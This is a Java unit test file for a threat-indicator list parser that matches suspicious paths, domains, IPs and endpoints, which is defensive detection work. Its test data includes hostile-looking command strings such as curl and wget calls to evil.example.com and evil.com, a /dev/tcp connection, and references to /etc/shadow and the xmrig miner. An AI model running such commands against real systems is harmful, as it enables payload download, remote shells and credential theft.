// SPDX-License-Identifier: Apache-2.0
// Copyright the gvtrace authors

package dev.gvtrace.replay.table.indicator;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;

import dev.gvtrace.replay.state.Endpoint;
import dev.gvtrace.replay.table.RequestException;
import dev.gvtrace.replay.table.indicator.Indicator.Match;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Objects;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Lists as they are handed around, and what their indicators match. */
class IndicatorListTest {
    private static IndicatorList list(String... lines) throws RequestException {
        return IndicatorList.parse("list", String.join("\n", lines).getBytes(StandardCharsets.UTF_8));
    }

    private static List<String> kinds(List<Match> matches) {
        return matches.stream().map(match -> match.kind().text()).toList();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "/etc/passwd | /etc/passwd | path",
                "/etc/passwd | /etc/passwd- | ",
                "/tmp/*.sh | /tmp/a/b.sh | pattern",
                "/tmp/[a]?.sh | /tmp/[a]b.sh | pattern",
                "/tmp/[a]?.sh | /tmp/ab.sh | ",
                "xmrig | /opt/xmrig | name",
                "xmrig | /opt/xmrig2 | ",
                "*.so.bak | /lib/x.so.bak | pattern",
                "cgi-bin/evil | /srv/cgi-bin/evil | pattern",
            })
    void pathsAndNames(String indicator, String path, String kind) throws RequestException {
        List<String> found = kinds(list(indicator).index().path(path));
        assertThat(found).isEqualTo(kind == null ? List.of() : List.of(kind));
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "evil.example.com | curl http://evil.example.com/x | domain",
                "evil.example.com | --host=a.EVIL.example.com:443 | domain",
                "evil.example.com | notevil.example.com | ",
                "evil[.]example[.]com | evil.example.com. | domain",
                "evil(dot)example{.}com | user@evil.example.com | domain",
                "*.example.com | x.example.com | pattern",
                "evil.com:8443 | https://evil.com:8443/ | domain",
                "hxxps://Evil[.]com/Pay/ | wget -q https://evil.com/pay?x=1 | url",
                "hxxps://evil.com/pay | https://evil.com/payload | ",
                "203.0.113[.]9 | http://203.0.113.9:8080/x | address",
                "203.0.113.9 | 203.0.113.90 | ",
                "203.0.113.0/24 | /dev/tcp/203.0.113.77/53 | network",
                "203.0.113.9:4444 | 203.0.113.9:4444 | endpoint",
                "203.0.113.9:4444 | 203.0.113.9:443 | ",
                "2001:DB8::1 | ssh 2001:db8:0::1 | address",
                "[2001:db8::1]:443 | http://[2001:db8::1]:443/ | endpoint",
                "::ffff:203.0.113.9 | 203.0.113.9 | address",
                "203.0.113.9 | ::ffff:203.0.113.9 | address",
                "/etc/shadow | IN=/etc/shadow | path",
            })
    void textsOfArgumentsAndVariables(String indicator, String text, String kind) throws RequestException {
        List<String> found = kinds(list(indicator).index().text(text));
        assertThat(found).isEqualTo(kind == null ? List.of() : List.of(kind));
    }

    @Test
    void socketsByTheirEnds() throws RequestException {
        IndicatorIndex index =
                list("10.0.0.0/8", "203.0.113.9:4444", "0.0.0.0/0", "::/0").index();
        Endpoint near = new Endpoint(new byte[] {10, 1, 2, 3}, 40_000);
        Endpoint far = new Endpoint(new byte[] {(byte) 203, 0, 113, 9}, 4444);
        assertThat(kinds(index.ends(near, far))).containsExactlyInAnyOrder("endpoint", "network", "network");
        assertThat(kinds(index.ends(null, null))).isEmpty();
        byte[] mapped = new byte[16];
        mapped[10] = -1;
        mapped[11] = -1;
        System.arraycopy(far.address(), 0, mapped, 12, 4);
        assertThat(kinds(index.ends(null, new Endpoint(mapped, 4444)))).contains("endpoint");
        assertThat(kinds(list("2001:db8::9").index().socketName("2001:db8::1:5000->2001:db8::9:443")))
                .containsExactly("address");
        assertThat(kinds(list("203.0.113.9:443").index().socketName("0.0.0.0:0->203.0.113.9:443")))
                .containsExactly("endpoint");
    }

    @Test
    void readsTablesCommentsAndOtherLineEnds() throws RequestException {
        IndicatorList list = list(
                "\ufeffindicator,type,note\r",
                "# comment\r",
                "// comment",
                "",
                "203.0.113.9,ip,\"command, control\"\r",
                "\"/tmp/a,b\",path",
                "/tmp/c # dropped",
                "evil.com;domain",
                "sha256:" + "AB".repeat(32) + "\tfile");
        assertThat(list.all().stream().map(Indicator::line)).containsExactly(5, 6, 7, 8, 9);
        assertThat(list.unchecked()).isEmpty();
        assertThat(kinds(list.index().path("/tmp/a,b"))).containsExactly("path");
        assertThat(kinds(list.index().path("/tmp/c"))).containsExactly("path");
        assertThat(kinds(list.index().text("evil.com"))).containsExactly("name");
        assertThat(kinds(list.index().digest("ab".repeat(32)))).containsExactly("sha256");
    }

    @ParameterizedTest
    @ValueSource(strings = {"d41d8cd98f00b204e9800998ecf8427e", "10.0.0.0/33", "::/129", "1.2.3.4:99999", "a@b:12"})
    void whatCannotBeCheckedHasTheReason(String indicator) throws RequestException {
        IndicatorList list = list(indicator, "/bin/sh");
        assertThat(list.unchecked()).hasSize(1);
        assertThat(list.unchecked().values().iterator().next()).isNotBlank();
        assertThat(list.unchecked().keySet().iterator().next().text()).isEqualTo(indicator);
    }

    @Test
    void whatIsNoListNamesFileAndLine() {
        refuses("a\nb\u0000c", "list:2: not text: found a byte 0");
        refuses("", "list: no indicator: expected one a line");
        refuses("# nothing\n\n", "list: no indicator: expected one a line");
        refuses("ok\n" + "x".repeat(20_000), "list:2: a line of 20000 bytes: expected at most 16384");
    }

    private static void refuses(String content, String message) {
        assertThatExceptionOfType(RequestException.class)
                .isThrownBy(() -> IndicatorList.parse("list", content.getBytes(StandardCharsets.UTF_8)))
                .withMessage(message);
    }

    /** Names that are not UTF-8 match byte by byte. */
    @Test
    void bytesAreKept() throws RequestException {
        IndicatorList list = IndicatorList.parse("list", new byte[] {'/', (byte) 0xff, '\n', 'x'});
        assertThat(kinds(list.index().path("/\u00ff"))).containsExactly("path");
        assertThat(Objects.requireNonNull(list.all().get(0)).text()).isEqualTo("/\u00ff");
    }

    /** A hundred thousand indicators take a few look-ups for each value, not one each. */
    @Test
    void manyIndicatorsAreLookedUpAtOnce() throws RequestException {
        StringBuilder lines = new StringBuilder();
        for (int i = 0; i < 100_000; i++) {
            lines.append("/opt/bin").append(i).append("\nhost").append(i).append(".example.net\n");
        }
        IndicatorIndex index = list(lines.toString()).index();
        int found = 0;
        for (int i = 0; i < 200_000; i++) {
            found += index.path("/opt/bin" + i).size();
        }
        assertThat(found).isEqualTo(100_000);
    }
}
